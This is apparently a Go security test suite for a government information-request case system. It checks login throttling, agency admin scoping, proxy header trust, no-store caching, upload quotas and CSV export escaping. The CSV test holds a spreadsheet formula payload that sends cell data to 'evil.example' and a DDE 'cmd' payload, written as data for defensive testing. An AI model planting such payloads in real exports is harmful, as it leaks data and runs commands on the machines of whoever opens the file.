package web

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	cases "foidesk/case"
	"foidesk/store"
)

// The attack suite (issue 11): each attack goes through the real router, as an outsider or as
// staff of another agency, and must be refused.

// loginFrom posts a login from address addr with a fresh browser.
func (o *office) loginFrom(addr, user, pw string) (*browser, int) {
	b := o.browser()
	b.addr = addr
	w := b.post("/login", url.Values{"username": {user}, "password": {pw}})
	return b, w.Code
}

// Item 2: parallel guesses of one account from one address are each counted before any password
// is checked: no more than 5 passwords are ever checked (401), the rest get 429, and then the
// right password gets 429 too.
func TestAttackLoginRace(t *testing.T) {
	o := newOffice(t)
	var wg sync.WaitGroup
	codes := make([]int, 60)
	for i := range codes {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, codes[i] = o.loginFrom("203.0.113.7", "clerk1", "guess-"+strconv.Itoa(i))
		}()
	}
	wg.Wait()
	checked := 0
	for _, c := range codes {
		switch c {
		case http.StatusUnauthorized:
			checked++
		case http.StatusTooManyRequests:
		default:
			t.Errorf("parallel guess answered %d", c)
		}
	}
	if checked > maxUserFailures {
		t.Fatalf("%d of 60 parallel guesses were checked; at most %d may be", checked, maxUserFailures)
	}
	if _, code := o.loginFrom("203.0.113.7", "clerk1", testPassword); code != http.StatusTooManyRequests {
		t.Fatalf("right password after the guesses: %d, want 429", code)
	}
}

// Item 3: five wrong passwords from one address do not lock the owner out from another
// address; only the much higher per-account ceiling does, and then an administrator unlocks it
// (auth log "unlock").
func TestAttackLoginLockout(t *testing.T) {
	o := newOffice(t)
	for i := 0; i < maxUserFailures; i++ {
		o.loginFrom("203.0.113.9", "clerk1", "wrong")
	}
	b, code := o.loginFrom("203.0.113.9", "clerk1", testPassword)
	if code != http.StatusTooManyRequests {
		t.Fatalf("the attacking address with the right password: %d, want 429", code)
	}
	_ = b
	if _, code := o.loginFrom("198.51.100.20", "clerk1", testPassword); code != http.StatusSeeOther {
		t.Fatalf("the owner from another address: %d, want 303", code)
	}
	// A distributed attack: the per-account ceiling from many addresses locks the account.
	for i := 0; i < maxAccountFailures; i++ {
		o.loginFrom("10.1."+strconv.Itoa(i/4)+"."+strconv.Itoa(i%4+1), "clerk1", "wrong")
	}
	b, code = o.loginFrom("198.51.100.20", "clerk1", testPassword)
	if code != http.StatusTooManyRequests {
		t.Fatalf("after %d failures from many addresses: %d, want 429 (locked)", maxAccountFailures, code)
	}
	admin := o.as("admin1")
	page := admin.get("/admin/users/" + strconv.FormatInt(o.users["clerk1"].ID, 10)).Body.String()
	if !strings.Contains(page, `action="/admin/users/`+strconv.FormatInt(o.users["clerk1"].ID, 10)+`/unlock"`) {
		t.Fatalf("the admin page offers no unlock: %s", pageText(page))
	}
	if w := admin.post("/admin/users/"+strconv.FormatInt(o.users["clerk1"].ID, 10)+"/unlock", url.Values{}); w.Code != http.StatusSeeOther {
		t.Fatalf("unlock: %d", w.Code)
	}
	if _, code := o.loginFrom("198.51.100.20", "clerk1", testPassword); code != http.StatusSeeOther {
		t.Fatalf("after the unlock: %d, want 303", code)
	}
}

// Item 1: password hashes are bounded: while every slot is taken, a login waits briefly and
// then gets 429 with Retry-After, without hashing anything.
func TestAttackLoginHashBound(t *testing.T) {
	o := newOffice(t)
	for range cap(o.s.hashes) {
		o.s.hashes <- struct{}{}
	}
	start := time.Now()
	b := o.browser()
	w := b.post("/login", url.Values{"username": {"nobody"}, "password": {"x"}})
	if w.Code != http.StatusTooManyRequests || w.Header().Get("Retry-After") == "" {
		t.Fatalf("login with every hash slot taken: %d Retry-After %q", w.Code, w.Header().Get("Retry-After"))
	}
	if d := time.Since(start); d < hashWait || d > hashWait+5*time.Second {
		t.Errorf("waited %v, want about %v", d, hashWait)
	}
	for range cap(o.s.hashes) {
		<-o.s.hashes
	}
	if w := b.post("/login", url.Values{"username": {"clerk1"}, "password": {testPassword}}); w.Code != http.StatusSeeOther {
		t.Fatalf("login once free: %d", w.Code)
	}
	if !strings.Contains(store.HashPassword("x"), "$m=19456,t=2,p=1$") {
		t.Errorf("hash parameters: %s", store.HashPassword("x"))
	}
}

// Item 6: an agency's administrator manages its own agency only: it neither sees nor changes
// another agency's accounts, mints no token for anyone else, creates no agencies and sets no
// calendar days; only the deployment administrator (--all-agencies) does.
func TestAttackAgencyAdminScoped(t *testing.T) {
	o := newOffice(t)
	rs, _ := store.ParseRoles("admin")
	adminB, err := o.db.CreateUser(o.ctx, "adminb", testPassword, rs, o.other.ID, "adminb")
	if err != nil {
		t.Fatal(err)
	}
	b := o.as("adminb")
	clerk1 := "/admin/users/" + strconv.FormatInt(o.users["clerk1"].ID, 10)
	if w := b.get(clerk1); w.Code != http.StatusForbidden {
		t.Errorf("agency B's admin opened agency A's clerk: %d", w.Code)
	}
	if w := b.post(clerk1+"/tokens", url.Values{"label": {"x"}}); w.Code != http.StatusForbidden || tokenRE.MatchString(w.Body.String()) {
		t.Fatalf("agency B's admin minted a token for agency A's clerk: %d", w.Code)
	}
	if w := b.post(clerk1, url.Values{"agency": {strconv.FormatInt(o.other.ID, 10)}, "roles": {"clerk"}, "active": {"1"}, "password": {"Taken over 2026!"}}); w.Code != http.StatusForbidden {
		t.Errorf("agency B's admin changed agency A's clerk: %d", w.Code)
	}
	clerkb := "/admin/users/" + strconv.FormatInt(o.users["clerkb"].ID, 10)
	if w := b.post(clerkb+"/tokens", url.Values{"label": {"x"}}); w.Code != http.StatusForbidden {
		t.Errorf("an admin minted a token for its own agency's clerk: %d", w.Code)
	}
	if w := b.get("/admin/users"); w.Code != http.StatusOK || strings.Contains(w.Body.String(), ">clerk1<") || !strings.Contains(w.Body.String(), "clerkb") {
		t.Errorf("users list of agency B's admin: %d %s", w.Code, pageText(w.Body.String()))
	}
	def := strconv.FormatInt(o.users["clerk1"].AgencyID, 10)
	if w := b.post("/admin/users", url.Values{"username": {"spy"}, "password": {"Spy password 2026"}, "roles": {"clerk"}, "agency": {def}}); w.Code != http.StatusUnprocessableEntity {
		t.Errorf("agency B's admin created an account in agency A: %d", w.Code)
	}
	if w := b.post("/admin/agencies", url.Values{"code": {"x"}, "name": {"某局"}}); w.Code != http.StatusForbidden {
		t.Errorf("agency admin created an agency: %d", w.Code)
	}
	if w := b.get("/admin/agencies/" + def); w.Code != http.StatusForbidden {
		t.Errorf("agency admin opened another agency's settings: %d", w.Code)
	}
	if w := b.post("/admin/calendar", url.Values{"day": {"2026-11-20"}, "kind": {"off"}, "note": {"x"}}); w.Code != http.StatusForbidden {
		t.Errorf("agency admin set a calendar day: %d", w.Code)
	}
	// Its own agency it manages: a new clerk of agency B must change the password first.
	w := b.post("/admin/users", url.Values{"username": {"clerkb2"}, "password": {"Initial pass 2026"}, "roles": {"clerk"}, "agency": {strconv.FormatInt(o.other.ID, 10)}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("own agency's account: %d %s", w.Code, pageText(w.Body.String()))
	}
	// Separation of duties: no account both administers and handles cases.
	if w := b.post("/admin/users", url.Values{"username": {"both"}, "password": {"Initial pass 2026"}, "roles": {"clerk", "admin"}}); w.Code != http.StatusUnprocessableEntity {
		t.Errorf("admin+clerk account: %d", w.Code)
	}
	_ = adminB
}

// Item 9 (等保): an account an administrator created changes its password at the first login
// before anything else; the new one follows the policy.
func TestAttackMustChangePassword(t *testing.T) {
	o := newOffice(t)
	admin := o.as("admin1")
	w := admin.post("/admin/users", url.Values{"username": {"newclerk"}, "password": {"Initial pass 2026"}, "roles": {"clerk"}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("create: %d %s", w.Code, pageText(w.Body.String()))
	}
	b := o.browser()
	w = b.post("/login", url.Values{"username": {"newclerk"}, "password": {"Initial pass 2026"}})
	if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/account/password" {
		t.Fatalf("first login: %d → %s", w.Code, w.Header().Get("Location"))
	}
	if w := b.get("/staff/queue"); w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/account/password" {
		t.Fatalf("the queue before the change: %d → %s", w.Code, w.Header().Get("Location"))
	}
	for _, weak := range []string{"short1A", "alllowercaseletters", "Newclerk-2026-x", "Initial pass 2026"} {
		w := b.post("/account/password", url.Values{"current": {"Initial pass 2026"}, "password": {weak}, "confirm": {weak}})
		if w.Code != http.StatusUnprocessableEntity {
			t.Errorf("weak password %q: %d", weak, w.Code)
		}
	}
	w = b.post("/account/password", url.Values{"current": {"wrong"}, "password": {"My own pass 2026"}, "confirm": {"My own pass 2026"}})
	if w.Code != http.StatusUnprocessableEntity {
		t.Errorf("wrong current password: %d", w.Code)
	}
	w = b.post("/account/password", url.Values{"current": {"Initial pass 2026"}, "password": {"My own pass 2026"}, "confirm": {"My own pass 2026"}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("change: %d %s", w.Code, pageText(w.Body.String()))
	}
	if w := b.get("/staff/queue"); w.Code != http.StatusOK {
		t.Fatalf("the queue after the change: %d", w.Code)
	}
	// An administrator's reset makes the user change it again.
	u, _ := o.db.UserByName(o.ctx, "newclerk")
	w = admin.post("/admin/users/"+strconv.FormatInt(u.ID, 10), url.Values{"agency": {strconv.FormatInt(u.AgencyID, 10)}, "roles": {"clerk"}, "active": {"1"}, "password": {"Reset by admin 2026"}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("reset: %d %s", w.Code, pageText(w.Body.String()))
	}
	if u, _ := o.db.UserByName(o.ctx, "newclerk"); !u.MustChangePassword || !store.CheckPassword(u.PasswordHash, "Reset by admin 2026") {
		t.Fatalf("after the reset: must change %v", u.MustChangePassword)
	}
	_ = cases.RoleClerk
}

// Item 7: behind a reverse proxy. X-Forwarded-For and -Proto are believed only from the trusted
// proxies: the throttle keys on the real client, and HTTPS per the proxy gets Secure cookies and
// HSTS; a forged header from anyone else changes nothing.
func TestAttackTrustedProxies(t *testing.T) {
	o := newOffice(t)
	// No proxy trusted (the default): a forged X-Forwarded-For does not escape the throttle.
	for i := 0; i < maxUserFailures; i++ {
		b := o.browser()
		b.addr = "203.0.113.50"
		b.header.Set("X-Forwarded-For", "192.0.2."+strconv.Itoa(i+10))
		b.post("/login", url.Values{"username": {"clerk2"}, "password": {"wrong"}})
	}
	b := o.browser()
	b.addr = "203.0.113.50"
	b.header.Set("X-Forwarded-For", "192.0.2.99")
	b.header.Set("X-Forwarded-Proto", "https")
	w := b.post("/login", url.Values{"username": {"clerk2"}, "password": {testPassword}})
	if w.Code != http.StatusTooManyRequests {
		t.Fatalf("forged X-Forwarded-For escaped the throttle: %d", w.Code)
	}
	if w.Header().Get("Strict-Transport-Security") != "" {
		t.Error("HSTS on a forged X-Forwarded-Proto")
	}

	// The proxy 10.0.0.0/8 is trusted: clients behind it are told apart.
	if err := o.s.engine.SetTrustedProxies([]string{"10.0.0.0/8"}); err != nil {
		t.Fatal(err)
	}
	var err error
	if o.s.proxies, err = parseProxies([]string{"10.0.0.0/8"}); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < maxUserFailures; i++ {
		b := o.browser()
		b.addr = "10.0.0.2"
		b.header.Set("X-Forwarded-For", "198.51.100.66")
		b.post("/login", url.Values{"username": {"sup1"}, "password": {"wrong"}})
	}
	owner := o.browser()
	owner.addr = "10.0.0.2"
	owner.header.Set("X-Forwarded-For", "198.51.100.77")
	owner.header.Set("X-Forwarded-Proto", "https")
	w = owner.post("/login", url.Values{"username": {"sup1"}, "password": {testPassword}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("another client behind the same proxy was blocked: %d", w.Code)
	}
	ck := w.Result().Cookies()
	if len(ck) == 0 || !ck[0].Secure {
		t.Errorf("cookie over HTTPS per the trusted proxy not Secure: %+v", ck)
	}
	if hsts := w.Header().Get("Strict-Transport-Security"); !strings.HasPrefix(hsts, "max-age=") {
		t.Errorf("HSTS over HTTPS: %q", hsts)
	}
	var addrs []string
	if err := o.db.R.Select(&addrs, `SELECT DISTINCT address FROM auth_log WHERE username = 'sup1' ORDER BY address`); err != nil {
		t.Fatal(err)
	}
	if strings.Join(addrs, ",") != "198.51.100.66,198.51.100.77" {
		t.Errorf("auth log addresses: %v, want the clients behind the proxy", addrs)
	}
	plain := o.browser()
	if w := plain.get("/login"); w.Header().Get("Strict-Transport-Security") != "" {
		t.Error("HSTS over plain HTTP")
	}
}

// Item 8: pages and API answers with personal data are never cached.
func TestAttackNoStore(t *testing.T) {
	o := newOffice(t)
	c := o.register("2026-11-02")
	id := strconv.FormatInt(c.ID, 10)
	for i, w := range []*http.Response{
		o.as("clerk1").get("/staff/cases/" + id).Result(),
		o.api("clerk1", "GET", "/api/v1/cases/"+id, nil).Result(),
		o.api("clerk1", "GET", "/api/v1/cases", nil).Result(),
	} {
		if w.StatusCode != http.StatusOK || !strings.Contains(w.Header.Get("Cache-Control"), "no-store") {
			t.Errorf("answer %d: %d Cache-Control %q", i, w.StatusCode, w.Header.Get("Cache-Control"))
		}
	}
}

// Item 4: CSV formula injection. An applicant's name and a description that look like formulas
// are exported with a leading ' in every CSV (ledger from the page and the API; the CLI writes
// the same forms.LedgerCSV), and as plain string cells in the XLSX.
func TestAttackCSVFormulaInjection(t *testing.T) {
	o, ok := reportOffice(t)
	if !ok {
		t.Skip("no CJK font: the exports need forms' renderer (CI fails instead)")
	}
	evilName := `=HYPERLINK("http://evil.example/x?"&I3,"张三")`
	evilDesc := `@SUM(1+1)*cmd|' /C calc'!A0 请公开本区2025年道路维修资金使用情况。`
	app := paperApp("2026-01-05")
	app.Applicant.Name = evilName
	app.Description = evilDesc
	if _, err := o.db.RegisterPaper(o.ctx, app, o.actor("clerk1")); err != nil {
		t.Fatal(err)
	}
	q := "from=2026-01-01&to=2026-01-31"
	for _, body := range []string{
		o.as("sup1").get("/staff/ledger/export?" + q + "&format=csv").Body.String(),
		o.api("sup1", "GET", "/api/v1/ledger?"+q+"&format=csv", nil).Body.String(),
	} {
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil || len(recs) < 2 {
			t.Fatalf("ledger CSV: %v %q", err, body)
		}
		found := 0
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("a cell starts a formula: %q", cell)
				}
				if cell == "'"+evilName || cell == "'"+evilDesc {
					found++
				}
			}
		}
		if found == 0 {
			t.Errorf("the applicant's name is not in the CSV, quoted: %q", body)
		}
	}
	w := o.api("sup1", "GET", "/api/v1/ledger?"+q+"&format=xlsx", nil)
	f, err := excelize.OpenReader(bytes.NewReader(w.Body.Bytes()))
	if err != nil {
		t.Fatalf("xlsx: %d %v", w.Code, err)
	}
	rows, _ := f.GetRows("台账")
	seen := false
	for i, row := range rows {
		for j, v := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fm, _ := f.GetCellFormula("台账", cell); fm != "" {
				t.Errorf("xlsx cell %s is a formula: %q", cell, fm)
			}
			if v == evilName {
				seen = true
				if ty, _ := f.GetCellType("台账", cell); ty != excelize.CellTypeInlineString && ty != excelize.CellTypeSharedString {
					t.Errorf("xlsx cell %s type %v, want a string", cell, ty)
				}
			}
		}
	}
	if !seen {
		t.Error("the applicant's name is not a text cell of the XLSX")
	}
}

// Item 5: uploads have a quota per case (10 files, 30 MB from the applicant; 1–5 files a
// request), a request beyond it is refused whole with 422 naming the field, and the 201 answer
// describes the files as stored (size, sha256, created_at).
func TestAttackUploadQuota(t *testing.T) {
	s, db := newTestServer(t)
	no, code := apiApply(t, s, nil)
	upload := func(files ...fileField) *httptest.ResponseRecorder {
		body, ct := multipartBody(t, nil, files...)
		req := newRequest("POST", "/api/v1/applications/"+no+"/files", body.String())
		req.Header.Set("Content-Type", ct)
		req.Header.Set("X-Access-Code", code)
		return do(s, req)
	}
	five := func(size int) []fileField {
		var fs []fileField
		for i := range 5 {
			fs = append(fs, fileField{"file", "id" + strconv.Itoa(i) + ".png", "image/png", pngBytes(size + i)})
		}
		return fs
	}
	w := upload(append(five(1000), fileField{"file", "x.png", "image/png", pngBytes(10)})...)
	if w.Code != http.StatusUnprocessableEntity || decodeError(t, w).Error.Fields["file"] == "" {
		t.Fatalf("6 files in one request: %d %s", w.Code, w.Body)
	}
	w = upload(five(1000)...)
	var up struct {
		Documents []struct {
			ID        int64     `json:"id"`
			Title     string    `json:"title"`
			Size      int64     `json:"size"`
			SHA256    string    `json:"sha256"`
			CreatedAt time.Time `json:"created_at"`
		} `json:"documents"`
	}
	if w.Code != http.StatusCreated || json.Unmarshal(w.Body.Bytes(), &up) != nil || len(up.Documents) != 5 {
		t.Fatalf("5 files: %d %s", w.Code, w.Body)
	}
	c, _ := db.CaseByTracking(context.Background(), no)
	for i, d := range up.Documents {
		stored, err := db.Document(context.Background(), c.ID, d.ID)
		sum := sha256.Sum256(pngBytes(1000 + i))
		if err != nil || d.Size != int64(1000+i) || d.Size != stored.Size || d.SHA256 != hex.EncodeToString(sum[:]) || !d.CreatedAt.Equal(stored.CreatedAt) || d.CreatedAt.IsZero() || d.Title == "" {
			t.Errorf("201 document %d: %+v, stored %+v %v", i, d, stored, err)
		}
	}
	if w := upload(five(2000)...); w.Code != http.StatusCreated {
		t.Fatalf("files 6–10: %d %s", w.Code, w.Body)
	}
	before, _ := db.Documents(context.Background(), c.ID)
	if w := upload(fileField{"file", "eleven.png", "image/png", pngBytes(100)}); w.Code != http.StatusUnprocessableEntity || decodeError(t, w).Error.Fields["file"] == "" {
		t.Fatalf("the 11th file: %d %s", w.Code, w.Body)
	}
	if after, _ := db.Documents(context.Background(), c.ID); len(after) != len(before) {
		t.Fatalf("a refused upload stored %d documents", len(after)-len(before))
	}

	// Bytes: three requests of 9.9 MB fit under 30 MB, the fourth does not (another case).
	no, code = apiApply(t, s, func(m map[string]any) {
		m["description"] = "请公开本区2025年度道路养护资金的使用情况。"
	})
	for i := range 3 {
		if w := upload(fileField{"file", "big.png", "image/png", pngBytes(9_900_000 + i)}); w.Code != http.StatusCreated {
			t.Fatalf("9.9 MB file %d: %d %s", i+1, w.Code, w.Body)
		}
	}
	if w := upload(fileField{"file", "big.png", "image/png", pngBytes(2 << 20)}); w.Code != http.StatusUnprocessableEntity || decodeError(t, w).Error.Fields["file"] == "" {
		t.Fatalf("beyond 30 MB: %d %s", w.Code, w.Body)
	}
}
